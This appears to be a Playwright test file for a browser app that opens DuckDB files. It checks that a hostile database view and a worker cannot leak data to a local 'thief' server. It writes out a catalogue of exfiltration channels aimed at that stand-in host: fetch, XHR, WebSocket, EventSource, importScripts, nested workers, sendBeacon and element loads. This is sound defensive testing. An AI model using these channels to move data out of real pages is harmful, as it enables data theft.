import type { Page, Worker } from '@playwright/test';
import { openApp } from './app.ts';
import { serveChanged } from './changedSite.ts';
import { createStealing } from './data/hostile.ts';
import { askEngine, engineWorker } from './engineAccess.ts';
import { expect } from './fixtures.ts';
import { startThief } from './guard/thief.ts';
import type { Thief } from './guard/thief.ts';
import { test as base } from './host.ts';
import { NOTHING_OPEN, openCell, openDropped } from './opened.ts';

/** A second server that the browser could reach directly, past the guard's proxy. */
const test = base.extend<{ thief: Thief }>({
  thief: async ({ browserName }, provide) => {
    if (browserName !== 'chromium') throw new Error('for Chromium');
    const thief = await startThief();
    await provide(thief);
    await thief.close();
  },
  proxy: async ({ recorder, site, thief }, provide) => {
    await provide({ server: recorder.server, bypass: `${new URL(site.origin).host},${thief.host}` });
  },
});

/** Attempts are reported by the browser itself, as refusals of the policy and as failed requests. */
const ATTEMPTS = /Content Security Policy|127\.0\.0\.1:\d+\/steal\?/;

const NO_POLICY = { 'http-equiv="Content-Security-Policy"': 'data-policy="removed"' };
const NO_LOCK = { 'SET enable_external_access = false': 'SELECT 1', 'SET lock_configuration = true': 'SELECT 1' };

async function openStealing(page: Page, thief: Thief, path: string): Promise<Worker> {
  await createStealing(path, `${thief.url}from=view`);
  await openApp(page, NOTHING_OPEN);
  await openDropped(page, [path], 'stealing.duckdb', '56 results');
  return engineWorker(page);
}

/** Every kind of request a worker can make, as code; each ends one way or another. */
const WAYS: Readonly<Record<string, (url: string) => string>> = {
  fetch: (url) => `fetch('${url}')`,
  blind: (url) => `fetch('${url}', { mode: 'no-cors', method: 'POST', body: 'data' })`,
  request: (url) => `(() => { const request = new XMLHttpRequest(); request.open('GET', '${url}', false); request.send(); })()`,
  script: (url) => `importScripts('${url}')`,
  socket: (url) => `ended(new WebSocket('${url.replace('http', 'ws')}'))`,
  events: (url) => `ended(new EventSource('${url}'))`,
  nested: (url) => `ended(new Worker(URL.createObjectURL(new Blob(["fetch('${url}').catch(() => 0).then(() => postMessage(1))"]))))`,
};
const ENDED = "const ended = (source) => new Promise((done) => ['open', 'close', 'error', 'message'].forEach((name) => source.addEventListener(name, done)));";

async function tryEveryWay(worker: Worker, url: string): Promise<void> {
  for (const [way, code] of Object.entries(WAYS)) {
    await worker.evaluate(`(async () => { ${ENDED} try { await ${code(url + way)}; } catch {} })()`);
  }
}

test.describe('data does not leave', () => {
  test.use({ allowedProblems: ATTEMPTS });

  test('a hostile view is not even asked, and opening its file sends nothing', async ({ page, thief, guard }, info) => {
    await openStealing(page, thief, info.outputPath('stealing.duckdb'));
    await openCell(page, /whisper-tiny on WebGPU/);
    await expect(page.getByText('operator not supported: LSTM')).toBeVisible();
    expect(thief.hits).toEqual([]);
    expect(guard.takeProblems().filter((problem) => !problem.includes('benchmarks.duckdb'))).toEqual([]);
  });

  for (const [safeguards, changes] of [
    ['the page as it is', {}],
    ['the policy alone', NO_LOCK],
    ['the lock of the engine alone', NO_POLICY],
  ] as const) {
    test(`a hostile view that is asked reaches nobody: ${safeguards}`, async ({ page, thief, site, root }, info) => {
      serveChanged(site, root, changes);
      const worker = await openStealing(page, thief, info.outputPath('stealing.duckdb'));
      for (const relation of ['src.stolen', 'src.performance_results']) {
        expect(await askEngine(worker, `SELECT * FROM ${relation}`)).toHaveProperty('refused');
      }
      expect(thief.hits).toEqual([]);
    });
  }

  test('the page and its engine cannot send by any other way', async ({ page, thief }, info) => {
    const worker = await openStealing(page, thief, info.outputPath('stealing.duckdb'));
    await tryEveryWay(worker, `${thief.url}from=engine&by=`);
    await page.evaluate(async (target) => {
      await fetch(`${target}fetch`).catch(() => undefined);
      navigator.sendBeacon(`${target}beacon`, 'data');
      const load = (element: HTMLElement, attribute: string): Promise<unknown> =>
        new Promise((done) => {
          element.addEventListener('error', done);
          element.addEventListener('load', done);
          element.setAttribute(attribute, `${target}${element.tagName}`);
          document.body.append(element);
        });
      await Promise.all([load(new Image(), 'src'), load(document.createElement('script'), 'src'), load(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href')]);
    }, `${thief.url}from=page&by=`);
    expect(thief.hits).toEqual([]);
    await expect(page.getByRole('grid')).toBeVisible();
  });
});

test.describe('without the safeguards', () => {
  test.use({ allowedProblems: ATTEMPTS });

  test('the same view and the same requests do arrive, so these tests would notice', async ({ page, thief, site, root }, info) => {
    serveChanged(site, root, { ...NO_POLICY, ...NO_LOCK });
    const worker = await openStealing(page, thief, info.outputPath('stealing.duckdb'));
    await askEngine(worker, 'SELECT * FROM src.stolen');
    await expect.poll(() => thief.hits.join('\n')).toContain('from=view');
    await tryEveryWay(worker, `${thief.url}from=engine&by=`);
    for (const way of Object.keys(WAYS)) {
      await expect.poll(() => thief.hits.join('\n')).toContain(`from=engine&by=${way}`);
    }
  });
});
